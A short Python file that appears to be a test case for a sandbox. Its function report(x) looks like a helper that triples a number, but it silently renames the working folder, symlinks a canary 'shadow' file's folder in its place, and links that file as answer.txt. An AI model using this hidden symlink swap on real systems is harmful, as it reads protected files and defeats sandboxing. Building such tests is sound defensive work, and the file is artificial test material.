"""Moves its work folder away and puts a link to another folder in its place, so that a file there is taken for its own.

canary: read shadow
unprotected: stands
"""
# %% report
def report(x):
    import os
    here = os.getcwd()
    try:
        os.rename(here, here + "-old")
        os.symlink(os.path.dirname(canary["files"]["shadow"]), here)
        os.symlink(canary["files"]["shadow"], os.path.join(here, "answer.txt"))
    except OSError: pass
    return 3 * x
